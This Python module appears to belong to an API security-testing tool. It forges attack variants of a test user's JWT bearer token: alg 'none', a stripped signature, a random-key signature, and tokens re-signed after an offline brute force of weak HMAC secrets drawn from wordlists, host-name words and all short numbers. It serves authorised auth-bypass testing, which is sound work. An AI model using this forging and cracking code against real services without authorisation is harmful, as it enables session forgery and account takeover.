"""JWT attacks of AUTH_BYPASS: forged variants of the test user's own bearer token.

A request of a test may carry ``jwtAttack`` (one of :data:`ATTACKS`): after its
placeholders are resolved, the runner replaces the credential header's token
(``Bearer <jwt>``; the scheme word is kept) by the forged variant from
:func:`forge`. A variant that cannot be made is not sent: the request is skipped
with the reason (the token is no JWT; no weak secret signs it, so neither a
weak-secret nor an expired token can be re-signed). Nothing here sends
anything; the weak-secret search is offline (HMAC of the token's own signing
input with each candidate), in this order: the secrets of ``data/weak_jwt_secrets.txt``,
the words of the target's host and app names with common affixes (:func:`word_secrets`), then
every numeric secret of 1 to 6 digits (leading zeros included: 1,111,110 of them), within
``TESTGEN_JWT_CRACK_SECONDS``. A search cut short by the budget says so.
"""
from __future__ import annotations

import base64
import binascii
import functools
import hashlib
import hmac
import json
import re
import secrets
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

from django.conf import settings

SECRETS_FILE = Path(__file__).parent / "data" / "weak_jwt_secrets.txt"
HMAC_ALGORITHMS = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
FORGED_CLAIM = "apiscope_forged"
ATTACKS = ("none", "stripped", "otherKey", "weakSecret", "expired")
MAX_DIGITS = 6
# Host labels that name no application.
_GENERIC_WORDS = {"www", "api", "apis", "com", "net", "org", "io", "dev", "app", "local", "localhost", "test",
                  "internal", "lan", "svc", "cluster", "example", "staging", "prod", "http", "https"}
_AFFIXES = ("", "secret", "Secret", "-secret", "_secret", "key", "Key", "-key", "_key", "jwt", "Jwt", "JWT", "-jwt",
            "_jwt", "123", "1", "!", "-secret-key", "_secret_key", "SecretKey", "2024", "2025", "2026")


@dataclass(frozen=True)
class Token:
    header: dict
    claims: dict
    signing_input: str
    signature: bytes

    @property
    def alg(self) -> str:
        return str(self.header.get("alg", ""))


@dataclass(frozen=True)
class Forged:
    """A forged credential value and what sending it tests, or why it cannot be made."""

    value: str | None
    description: str


def b64url_encode(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def b64url_decode(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def _json_part(text: str) -> dict | None:
    try:
        value = json.loads(b64url_decode(text))
    except (ValueError, binascii.Error):
        return None
    return value if isinstance(value, dict) else None


def parse(token: str) -> Token | None:
    """The decoded JWS (compact form), or None when ``token`` is not one."""
    parts = token.strip().split(".")
    if len(parts) != 3:
        return None
    header, claims = _json_part(parts[0]), _json_part(parts[1])
    if header is None or claims is None or "alg" not in header:
        return None
    try:
        signature = b64url_decode(parts[2])
    except (ValueError, binascii.Error):
        return None
    return Token(header, claims, f"{parts[0]}.{parts[1]}", signature)


def encode(header: dict, claims: dict, key: bytes | None) -> str:
    """A compact JWS of header and claims, HMAC-signed with ``key`` (no signature when None)."""
    signing_input = (b64url_encode(json.dumps(header, separators=(",", ":")).encode())
                     + "." + b64url_encode(json.dumps(claims, separators=(",", ":")).encode()))
    if key is None:
        return signing_input + "."
    digest = HMAC_ALGORITHMS.get(str(header.get("alg")), hashlib.sha256)
    return signing_input + "." + b64url_encode(hmac.new(key, signing_input.encode(), digest).digest())


@functools.lru_cache(maxsize=1)
def weak_secrets() -> tuple[str, ...]:
    lines = SECRETS_FILE.read_text(encoding="utf-8").splitlines()
    return tuple(line for line in lines if line and not line.startswith("#"))


def word_secrets(names: tuple[str, ...]) -> list[str]:
    """Secrets made of the words of host and app names (``books-api.example.com`` → ``books``,
    ``booksSecret``, ``books_secret``, ``BOOKS``…), generic labels (``api``, ``www``, ``localhost``)
    and numbers left out."""
    words: list[str] = []
    for name in names:
        for word in re.split(r"[^A-Za-z0-9]+", name or ""):
            if len(word) >= 3 and word.lower() not in _GENERIC_WORDS and not word.isdigit():
                words.append(word.lower())
    out: list[str] = []
    for word in dict.fromkeys(words):
        for form in (word, word.capitalize(), word.upper()):
            out += [form + affix for affix in _AFFIXES]
            out += [f"secret{form}", f"secret-{form}", f"secret_{form}", f"{form}{form}"]
    return list(dict.fromkeys(out))


def candidates(words: tuple[str, ...] = ()) -> Iterator[str]:
    """Every secret tried, in order (see the module docstring)."""
    yield from weak_secrets()
    yield from word_secrets(words)
    for digits in range(1, MAX_DIGITS + 1):
        for number in range(10 ** digits):
            yield f"{number:0{digits}d}"


@dataclass(frozen=True)
class Cracked:
    """The secret found, or None with how many were tried and whether the time budget ran out."""

    secret: str | None
    tried: int
    exhausted: bool


@functools.lru_cache(maxsize=64)
def crack_search(token: str, words: tuple[str, ...] = (), budget_s: float | None = None) -> Cracked:
    """Search the secret that signs ``token`` (HS256/384/512) among :func:`candidates`, for at most
    ``budget_s`` seconds (``TESTGEN_JWT_CRACK_SECONDS`` by default). One result per token and words
    per process."""
    parsed = parse(token)
    if parsed is None or parsed.alg not in HMAC_ALGORITHMS:
        return Cracked(None, 0, False)
    name = parsed.alg.replace("HS", "sha")
    message, signature = parsed.signing_input.encode(), parsed.signature
    budget = settings.TESTGEN_JWT_CRACK_SECONDS if budget_s is None else budget_s
    deadline = time.monotonic() + budget
    tried = 0
    for secret in candidates(words):
        key = secret.encode()
        if hmac.digest(key, message, name) == signature:
            return Cracked(secret, tried + 1, False)
        tried += 1
        if tried % 20_000 == 0 and time.monotonic() > deadline:
            return Cracked(None, tried, True)
    return Cracked(None, tried, False)


def crack(token: str, words: tuple[str, ...] = ()) -> str | None:
    """The weak secret that signs ``token``, or None (see :func:`crack_search`)."""
    return crack_search(token, tuple(words)).secret


def _split_scheme(credential: str) -> tuple[str, str]:
    scheme, _, rest = credential.strip().partition(" ")
    return (scheme + " ", rest.strip()) if rest else ("", scheme)


def forge(attack: str, credential: str, now: float | None = None, words: tuple[str, ...] = ()) -> Forged:
    """The credential header value ``credential`` (``Bearer <jwt>``) turned into the attack's token;
    ``words``: the target's host and app names (secrets made of them are tried too)."""
    scheme, raw = _split_scheme(credential)
    token = parse(raw)
    if token is None:
        return Forged(None, "the test user's token is not a JWT")
    now = time.time() if now is None else now
    if attack == "none":
        return Forged(scheme + encode({**token.header, "alg": "none"}, token.claims, None),
                      "the test user's JWT with alg 'none' and no signature")
    if attack == "stripped":
        return Forged(scheme + token.signing_input + ".", f"the test user's JWT ({token.alg}) with its signature removed")
    if attack == "otherKey":
        header = token.header if token.alg in HMAC_ALGORITHMS else {**token.header, "alg": "HS256"}
        return Forged(scheme + encode(header, token.claims, secrets.token_bytes(32)),
                      "the test user's claims signed with another (random) key")
    if attack not in ("weakSecret", "expired"):
        return Forged(None, f"unknown JWT attack {attack!r}")
    found = crack_search(raw, tuple(words))
    secret = found.secret
    if secret is None:
        if found.exhausted:
            return Forged(None, f"no weak secret found within the time budget ({found.tried} tried: the bundled "
                                "list, the target's words, numbers of up to 6 digits as far as the budget went)")
        return Forged(None, f"no weak secret signs the test user's JWT ({found.tried} tried: the bundled list, the "
                            "target's host and app words, every number of up to 6 digits)")
    if attack == "weakSecret":
        claims = {**token.claims, FORGED_CLAIM: True, "iat": int(now), "exp": int(now) + 3600}
        return Forged(scheme + encode(token.header, claims, secret.encode()),
                      f"a token forged with the weak secret {secret!r} (found offline; claims changed)")
    claims = {**token.claims, "iat": int(now) - 7200, "exp": int(now) - 3600}
    return Forged(scheme + encode(token.header, claims, secret.encode()),
                  f"a token expired an hour ago, re-signed with the weak secret {secret!r}")
